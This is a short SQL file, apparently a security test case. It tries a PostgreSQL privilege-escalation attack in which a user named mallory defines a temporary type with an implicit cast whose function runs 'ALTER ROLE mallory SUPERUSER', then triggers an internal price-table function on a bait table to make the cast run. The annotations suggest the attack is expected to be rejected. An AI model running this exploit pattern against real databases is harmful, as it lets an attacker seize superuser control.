-- S1: the same by the trigger function of the price tables.
-- @mallory 42501
CREATE TYPE pg_temp.evil AS (x int);
CREATE FUNCTION pg_temp.take(pg_temp.evil) RETURNS timestamptz LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; RETURN '2026-01-01'; END $$;
CREATE CAST (pg_temp.evil AS timestamptz) WITH FUNCTION pg_temp.take(pg_temp.evil) AS IMPLICIT;
CREATE TEMP TABLE bait (valid_from pg_temp.evil);
CREATE TRIGGER bait AFTER INSERT ON bait REFERENCING NEW TABLE AS written FOR EACH STATEMENT EXECUTE FUNCTION :internal.price_cuts_months();
INSERT INTO bait VALUES (ROW(1)::pg_temp.evil);
-- @harm
SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory';
